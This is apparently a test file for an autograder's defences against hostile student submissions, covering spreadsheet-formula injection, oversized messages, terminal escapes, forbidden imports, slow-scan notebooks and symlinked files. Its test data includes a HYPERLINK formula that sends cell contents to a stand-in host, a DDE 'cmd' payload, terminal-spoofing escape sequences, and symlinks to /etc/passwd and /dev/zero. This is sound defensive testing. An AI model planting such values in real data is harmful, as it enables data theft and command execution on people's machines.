"""Everything a student produces is hostile data: ids, messages, notebooks and the files beside them.

1. CSV: no text cell of a report a spreadsheet would run as a formula; every field within what
   Python's csv reads by default; read back exactly (the class report matches ids).
2. Sizes: a million-character exception message is cut where the message is made, so the report,
   the feedback and `deepgrad report` take it; a report of an older version with an over-long field
   loses no row.
3. Terminal: no control character of a student id or reason reaches the instructor's terminal.
4. The forbidden-library rule judges use, not mention, in every loaded cell.
5. Linear: every trusted reader of a submission takes pathological notebooks of up to 16 MiB in
   seconds (the quadratic scans took 78 s and 71 s).
6. Files beside the notebook: none reaches autograded/ or feedback/ unless the course lists it.
"""
from __future__ import annotations

import copy
import csv
import json
import os
import re
import time
from pathlib import Path

import pytest

from autograder.bounded import MESSAGE_CHARS, Messages, bounded, cut_note
from autograder.calls import CheckFailure, StudentProblem, interpret, with_warnings
from autograder.notebook import carried_tasks, forbidden_uses, loadable_cells, read_cells
from autograder.sandbox import Limits
from conftest import NOTEBOOKS, ROOT, released_course
from deepgrad.commands.cli import main
from deepgrad.commands.class_report import read_report
from deepgrad.adapters.nbgrader_api import Nbgrader
from deepgrad.base.safe_text import FIELD_CHARS, csv_cell, csv_value
from deepgrad.base.snapshot import Snapshots
from deepgrad.grading.grading_report import REPORT_COLUMNS, write_report
from deepgrad.commands.submissions import answered, read, reference_answers, write
from deepgrad.grading.shown_verdict import show_verdict
from deepgrad.grading.verdict import (SUBMISSION_SECONDS, SubmissionVerdict, TaskVerdict, grade_submission, submission_problem)

A01 = NOTEBOOKS["a01"]
SOURCE = ROOT / "solutions" / A01 / f"{A01}.ipynb"
LIMITS = Limits(call_seconds=2.0, start_seconds=6.0)
HOSTILE_ID = '=HYPERLINK("http://evil.example/?"&A1,"grades")\x1b[2J\u202e'
FLOOD = 1_000_000
MOST = MESSAGE_CHARS + len(cut_note(10 ** 9))  # a cut message's largest length
FORMULA = ("=", "+", "-", "@", "\t", "\r")
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def honest() -> dict:
    return answered(read(ROOT / "assignments" / A01 / f"{A01}.ipynb"), reference_answers(read(SOURCE)))


def submitted(course: Path, nb: dict, student: str = "sam") -> Path:
    path = course / "submitted" / student / A01 / f"{A01}.ipynb"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(nb), encoding="utf-8")  # compact: deep metadata indented is gigabytes
    return path


def formula_like(cell: str) -> bool:
    return cell.lstrip(" \n").startswith(FORMULA) and not re.fullmatch(r"[+-]?[\d.]+(e[+-]?\d+)?", cell)


# ---------------------------------------------------------------- 1. CSV cells
@pytest.mark.parametrize("value", [
    '=HYPERLINK("http://x","y")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "  =1",
    "\n@x", "'=already quoted", "'", "plain words", "", "-1.5", "2.0", "1e-3", "a01.sigmoid.values: ok"])
def test_a_text_cell_is_never_a_formula_and_reads_back_exactly(value):
    cell = csv_cell(value)
    assert not formula_like(cell) and csv_value(cell) == value


@pytest.mark.parametrize("number", [2.0, -1.5, 0, 12345678901234567890])
def test_numbers_stay_numbers(number):
    assert csv_cell(number) == number


# ---------------------------------------------------------------- 2. sizes, through the grading path
@pytest.fixture(scope="module")
def flooded(tmp_path_factory):
    """A submission whose sigmoid raises a million-character message starting like a formula, from
    a student whose id is a formula with escape sequences, graded by the sandboxed worker."""
    folder = tmp_path_factory.mktemp("flooded")
    answers = reference_answers(read(SOURCE))
    answers["ans_sigmoid"] = f"def sigmoid(z):\n    raise ValueError('=cmd|' + 'x' * {FLOOD})\n"
    path = folder / f"{A01}.ipynb"
    write(answered(read(ROOT / "assignments" / A01 / f"{A01}.ipynb"), answers), path)
    verdict = grade_submission(SOURCE, path, HOSTILE_ID, A01, secret=bytes(32), limits=LIMITS)
    return folder, verdict


def test_a_flood_is_cut_where_the_message_is_made(flooded):
    _, verdict = flooded
    sigmoid = next(t for t in verdict.tasks if t.grade_id == "test_sigmoid")
    assert sigmoid.status == "failed" and any("(cut: " in m for m in sigmoid.messages)
    messages = [m for t in verdict.tasks for m in t.messages + t.student_messages]
    assert messages and max(map(len, messages)) <= MOST
    nb = honest()
    show_verdict(nb, verdict, bytes(32))  # what the autograded notebook and the feedback show
    assert len(json.dumps(nb)) < len(json.dumps(honest())) + 200_000


def _gradebook(url: str, verdict: SubmissionVerdict, students: list[str]) -> None:
    from nbgrader.api import Gradebook

    from deepgrad.adapters.gradebook import create_if_absent

    create_if_absent(url)  # made as deepgrad makes a course's (nbgrader's alembic subprocess: 3 s of CPU)
    with Gradebook(url) as gradebook:
        gradebook.add_assignment(A01)
        gradebook.add_notebook(A01, A01)
        for task in verdict.tasks:
            gradebook.add_grade_cell(task.grade_id, A01, A01, max_score=task.points, cell_type="code")
        for student in students:
            gradebook.add_student(student)
            gradebook.update_or_create_submission(A01, student)
        gradebook.db.commit()


def test_the_report_reads_back_with_default_limits_and_the_class_report_works(flooded, monkeypatch, capsys):
    folder, verdict = flooded
    course = folder / "course"
    (course / "solutions").mkdir(parents=True)
    (course / "nbgrader_config.py").write_text(
        "import os\nc = get_config()\nHERE = os.path.dirname(os.path.abspath(__file__))\n"
        "c.CourseDirectory.root = HERE\nc.CourseDirectory.db_url = 'sqlite:///' + os.path.join(HERE, 'g.db')\n")
    _gradebook(f"sqlite:///{course / 'g.db'}", verdict, [HOSTILE_ID, "ann"])
    report = course / f"grading_report_{A01}.csv"
    broken = SubmissionVerdict("ann", A01, status="broken", reason="@" + "y" * FLOOD)
    write_report([verdict, broken], report)
    assert csv.field_size_limit() == 131072
    with report.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))  # Python's default limits
    assert rows[0] == REPORT_COLUMNS and len(rows) == 1 + 2 + len(verdict.tasks)
    assert all(len(cell) <= FIELD_CHARS + 100 and not formula_like(cell) for row in rows for cell in row)
    assert all(float(row[4]) >= 0 and float(row[5]) >= 0 for row in rows[1:])  # scores: numbers
    assert {r["student"] for r in read_report(report, A01)} == {HOSTILE_ID, "ann"}  # read back exactly

    monkeypatch.chdir(course)
    assert main(["report", A01]) == 0
    page, table = course / f"class_report_{A01}.html", course / f"class_report_{A01}.csv"
    assert "\x1b" not in page.read_text() and "=HYPERLINK(&quot;http" in page.read_text()
    with table.open(newline="") as handle:
        assert all(not formula_like(cell) for row in csv.reader(handle) for cell in row)
    assert "class report:" in capsys.readouterr().out


def test_an_over_long_field_of_an_older_report_loses_no_row(tmp_path):
    """A report written before fields were cut (a 960,000-character message): grading another
    student keeps its rows, and the class report's reader reads it."""
    report = tmp_path / "report.csv"
    with report.open("w", newline="", encoding="utf-8") as handle:
        out = csv.writer(handle)
        out.writerow(REPORT_COLUMNS)
        out.writerow([A01, "old", "broken", "", 0.0, 0.0, 1, "=" + "z" * 960_000, "bubblewrap"])
    assert {r["student"] for r in read_report(report, A01)} == {"old"}
    write_report([SubmissionVerdict("new", A01, reason="fine")], report)
    with report.open(newline="", encoding="utf-8") as handle:
        rows = {row[1]: row for row in csv.reader(handle)}
    assert set(rows) == {"student", "old", "new"} and rows["old"][7].startswith("'=zzz")
    assert "(cut: " in rows["old"][7] and len(rows["old"][7]) <= FIELD_CHARS + 100


@pytest.mark.parametrize("make", [
    lambda text: StudentProblem(text).message,
    lambda text: str(CheckFailure(text)),
    lambda text: SubmissionVerdict("s", A01, reason=text).reason,
    lambda text: TaskVerdict("t", 1, messages=[text]).messages[0],
    lambda text: (lambda t: (t.student_messages.append(text), t.student_messages[-1])[1])(TaskVerdict("t", 1)),
    lambda text: Messages([text])[0],
    lambda text: _problem(lambda: interpret({"status": "exception", "type": "ValueError", "traceback": text}, "f")),
    lambda text: with_warnings("`f` returned a wrong value", [text]),
], ids=["StudentProblem", "CheckFailure", "reason", "messages", "student_messages", "Messages",
        "traceback", "warnings"])
def test_every_message_is_cut_where_it_is_made(make):
    message = make("start " + "x" * FLOOD + " the end")
    assert len(message) <= MOST + 200 and "(cut: " in message and " the end" in message[-200:]


def _problem(call) -> str:
    try:
        call()
    except (StudentProblem, CheckFailure) as exc:
        return str(exc)
    raise AssertionError("no problem raised")


def test_bounded_keeps_short_text_whole():
    assert bounded("short") == "short" and bounded("x" * MESSAGE_CHARS) == "x" * MESSAGE_CHARS


# ---------------------------------------------------------------- 3. terminal
def test_the_terminal_shows_escapes_never_controls(monkeypatch, capsys):
    verdicts = [SubmissionVerdict(HOSTILE_ID, A01, status="broken", reason="\x1b]0;owned\x07\n" + "w " * FLOOD),
                SubmissionVerdict("\x1b[1A\rfake  10 / 10", A01, status="review", reason="\x9b2J =cmd")]
    monkeypatch.setattr("deepgrad.runs.autograde.autograde_and_report", lambda *a, **k: (verdicts, "report.csv"))
    main(["autograde", A01])
    out = capsys.readouterr()
    lines = out.out.splitlines()
    assert len(lines) == len(verdicts) + 1  # one per submission, and the report's path
    assert not CONTROL.search(out.out + out.err) and "\\x1b" in out.out
    assert max(map(len, lines)) <= 240


# ---------------------------------------------------------------- 4. the forbidden-library rule
SETUP_CELL = {"cell_type": "code", "metadata": {"nbgrader": {"grade_id": "setup_mine", "solution": False,
                                                            "grade": False, "locked": False, "schema_version": 3}},
              "source": "", "outputs": [], "execution_count": None}


@pytest.mark.parametrize("sigmoid, extra, charged", [
    ("def sigmoid(z):\n    # same as torch.sigmoid\n    '''scipy.special.expit'''\n    return 1 / (1 + np.exp(-z))\n",
     None, {}),
    ("import torch\ndef sigmoid(z):\n    return torch.sigmoid(torch.tensor(z)).numpy()\n", None, {"sigmoid": "torch"}),
    ("def sigmoid(z):\n    return expit(z)\n", "from scipy.special import expit\n", {"sigmoid": "scipy"}),
    ("def sigmoid(z):\n    return np.tanh(z)\n", "import torch\ndef sigmoid(z):\n    return torch.sigmoid(z)\n",
     {"sigmoid": "torch"}),  # a student's own "setup" cell is read too
    ("def sigmoid(z):\n    m = __import__('jax.numpy')\n    return m.tanh(z)\n", None, {"sigmoid": "jax"}),
    ("import importlib\ndef sigmoid(z):\n    return importlib.import_module('autograd').f(z)\n", None,
     {"sigmoid": "autograd"}),
    ("import dlkit\ndef sigmoid(z):\n    return dlkit.sklearn.expit(z)\n", None, {"sigmoid": "sklearn"}),
    ("def sigmoid(z):\n    print('torch is not used here')\n    return 1 / (1 + np.exp(-z))\n", None, {}),
], ids=["mention", "import", "from-setup-cell", "setup-cell-defines", "__import__", "import_module", "attribute",
        "string"])
def test_forbidden_libraries_are_judged_by_use_in_every_loaded_cell(tmp_path, sigmoid, extra, charged):
    nb = answered(read(ROOT / "assignments" / A01 / f"{A01}.ipynb"),
                  {**reference_answers(read(SOURCE)), "ans_sigmoid": sigmoid})
    if extra is not None:
        nb["cells"].insert(1, {**copy.deepcopy(SETUP_CELL), "source": extra})
    path = tmp_path / "nb.ipynb"
    write(nb, path)
    assert forbidden_uses(path) == charged


def test_the_course_notebooks_use_no_forbidden_library():
    for name in NOTEBOOKS.values():
        assert forbidden_uses(ROOT / "solutions" / name / f"{name}.ipynb") == {}, name


# ---------------------------------------------------------------- 5. linear scans
def _code(source, grade_id=None, **extra) -> dict:
    meta = {"nbgrader": {"grade_id": grade_id, "solution": True, "grade": False, "locked": False,
                         "schema_version": 3}} if grade_id else {}
    return {"cell_type": "code", "metadata": {**meta, **extra}, "source": source, "outputs": [],
            "execution_count": None, "id": "dup"}


def _pathological() -> dict[str, dict]:
    base = honest()
    nested: object = "leaf"
    for _ in range(500):  # deep, yet readable (json refuses some 1,000 levels as "nested too deeply")
        nested = {"a": nested}
    return {
        "60,000 cells with one id": {**base, "cells": base["cells"] + [_code("x = 1\n")] * 60_000},
        "200,000 blank lines": {**base, "cells": base["cells"] + [
            _code("def f(z):  # torch\n    return z\n" + "\n" * 200_000 + "x = 1\n", "ans_extra")] * 10},
        "many tags": {**base, "cells": base["cells"] + [_code("x = 1\n", tags=["t"] * 1_500_000)]},
        "long lines": {**base, "cells": base["cells"] + [
            _code("torch = '" + "x" * 5_000_000 + "'\ncheck(" + " " * 5_000_000 + "\n", "ans_long"),
            _code("def " + "f" * 3_000_000 + "(z):\n    return check(  'a01.x'\n", "ans_long2")]},
        "deep metadata": {**base, "cells": base["cells"] + [_code("x = 1\n", deep=nested)] * 1_000},
    }


def _snapshot(course: Path, path: Path) -> None:
    with Snapshots(course, A01) as snapshots:
        snapshots.take("sam")


READERS = {
    "snapshot": _snapshot,
    "read_cells": lambda course, path: read_cells(path),
    "loadable_cells": lambda course, path: loadable_cells(path),
    "forbidden_uses": lambda course, path: forbidden_uses(path),
    "carried_tasks": lambda course, path: carried_tasks(path),
    "submission_problem": lambda course, path: submission_problem(SOURCE, path),
}


def test_every_trusted_reader_is_linear_on_pathological_notebooks(tmp_path):
    """Each reader, on each notebook (up to 16 MiB), within seconds: the old duplicate-id scan took
    78 s on 60,000 cells, the old def scan 71 s on 200,000 blank lines."""
    slow = {}
    for kind, nb in _pathological().items():
        path = submitted(tmp_path / kind.replace(" ", "_"), nb)
        assert path.stat().st_size <= 16 * 2**20, kind
        for name, reader in READERS.items():
            start = time.perf_counter()
            reader(path.parents[3], path)
            slow[(kind, name)] = time.perf_counter() - start
    assert max(slow.values()) < 10, sorted(slow.items(), key=lambda item: -item[1])[:3]
    assert "and 10 more]" in submission_problem(SOURCE, submitted(tmp_path / "ids", {**honest(), "cells": [
        _code("x", f"ans_{i}") | {"id": f"id{i % 20}"} for i in range(40)]}))


def test_a_pathological_notebook_is_graded_and_gets_feedback_beside_an_honest_one(tmp_path):
    """Some 5 MiB of one submission: 10,000 markdown cells sharing one id, each with 20 tags (ten
    names, each twice), and an answer cell of 200,000 blank lines. Are it and an honest notebook
    graded through the course's config, and do both get feedback, within the per-submission cap plus
    a constant? Before, nbgrader's pass refused the duplicate tags: the autograded notebook was the
    raw snapshot, and no feedback page came out. (That every trusted reader stays linear up to
    16 MiB, where the old duplicate-id scan took 24 minutes, is the test above's to show.)"""
    from deepgrad.runs.autograde import autograde

    course, _, _ = released_course(tmp_path / "course")
    nb = honest()
    answer = next(c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == "ans_sigmoid")
    answer["source"] += "\n" * 200_000
    nb["cells"] += [{"cell_type": "markdown", "id": "dup", "metadata": {"tags": [f"t{i % 10}" for i in range(20)]},
                     "source": "x " * 150} for _ in range(10_000)]
    assert 4 * 2**20 < submitted(course, nb, "sam").stat().st_size <= 16 * 2**20
    submitted(course, honest(), "kim")
    grader = Nbgrader(course)
    start = time.perf_counter()
    verdicts = {v.student: v for v in autograde(course, A01, ["kim", "sam"], grader=grader, limits=LIMITS)}
    for student in verdicts:
        grader.generate_feedback(A01, student)
    assert time.perf_counter() - start < SUBMISSION_SECONDS + 60
    assert (verdicts["sam"].status, verdicts["sam"].score) == ("review", 16) and "duplicate cell ids" in \
        verdicts["sam"].reason
    assert (verdicts["kim"].status, verdicts["kim"].score) == ("graded", 16)
    for student in verdicts:
        assert (course / "feedback" / student / A01 / f"{A01}.html").is_file()
    assert "nbgrader could not run" not in (course / "autograded" / "sam" / A01 / f"{A01}.ipynb").read_text()


# ---------------------------------------------------------------- 6. files beside the notebook
def test_no_file_beside_the_notebook_reaches_autograded_or_feedback(tmp_path):
    from deepgrad.runs.autograde import autograde

    course, _, _ = released_course(tmp_path / "course")
    folder = submitted(course, honest()).parent
    with open(folder / "big.bin", "wb") as handle:
        handle.truncate(48 * 2**20)  # sparse: 48 MiB long, nothing written
    (folder / "solution.ipynb.txt").symlink_to(course / "solutions" / A01 / f"{A01}.ipynb")
    (folder / "passwd").symlink_to("/etc/passwd")
    (folder / "zero").symlink_to("/dev/zero")
    (folder / "data").symlink_to(course / "solutions")
    (folder / ".hidden").write_text("secret")
    os.mkfifo(folder / "pipe")
    (folder / "timestamp.txt").write_text("2026-01-01 00:00:00.000000 UTC")  # nbgrader's own: kept
    grader = Nbgrader(course)
    (verdict,) = autograde(course, A01, ["sam"], grader=grader, limits=LIMITS)
    assert verdict.status == "graded", verdict.reason
    grader.generate_feedback(A01, "sam")
    for out in ("autograded", "feedback"):
        found = sorted(p.name for p in (course / out / "sam" / A01).iterdir())
        assert found == sorted([f"{A01}.{'ipynb' if out == 'autograded' else 'html'}", "timestamp.txt"]), out


def test_a_timestamp_that_is_a_link_is_never_read(tmp_path):
    """nbgrader reads timestamp.txt itself, following a link: one to /dev/zero would fill the
    grader's memory. nbgrader's pass is refused before it reads it: the submission is broken, said."""
    from deepgrad.runs.autograde import autograde

    course, _, _ = released_course(tmp_path / "course")
    folder = submitted(course, honest()).parent
    (folder / "timestamp.txt").symlink_to("/dev/zero")
    (verdict,) = autograde(course, A01, ["sam"], grader=Nbgrader(course), limits=LIMITS)
    assert verdict.status == "broken" and "nbgrader autograde" in verdict.reason
    assert not (course / "autograded" / "sam" / A01 / "timestamp.txt").exists()


def test_the_grades_export_is_a_csv_no_spreadsheet_runs(tmp_path):
    """`nbgrader export` (and the demo's grades.csv) through the course's exporter: does a student
    id that is a formula holding a comma read back as one field, quoted, beside the right scores?
    (Planted bug: nbgrader's own CsvExportPlugin, which joins fields with commas as they are.)"""
    from nbgrader.api import Gradebook

    from deepgrad.adapters.gradebook import create_if_absent
    from deepgrad.adapters.grades_export import COLUMNS, SafeCsvExportPlugin

    db = f"sqlite:///{tmp_path / 'gradebook.db'}"
    hostile = '=HYPERLINK("http://x", "a, b")'
    create_if_absent(db)  # made as deepgrad makes a course's (nbgrader's alembic subprocess: 3 s of CPU)
    with Gradebook(db) as gradebook:
        gradebook.add_assignment(A01)
        gradebook.add_student(hostile, first_name="@SUM(A1)", email="+1,2")
        SafeCsvExportPlugin(to=str(tmp_path / "grades.csv")).export(gradebook)
    assert 'c.ExportApp.plugin_class = "deepgrad.adapters.grades_export.SafeCsvExportPlugin"' in \
        (ROOT / "nbgrader_config.py").read_text()  # `nbgrader export` uses it too
    with (tmp_path / "grades.csv").open(newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == COLUMNS and len(rows) == 2 and len(rows[1]) == len(COLUMNS)
    row = dict(zip(COLUMNS, rows[1]))
    assert [csv_value(row[k]) for k in ("student_id", "first_name", "email")] == [hostile, "@SUM(A1)", "+1,2"]
    assert not any(formula_like(cell) for cell in rows[1]), rows[1]
    assert (row["score"], row["raw_score"]) == ("0.0", "0.0")
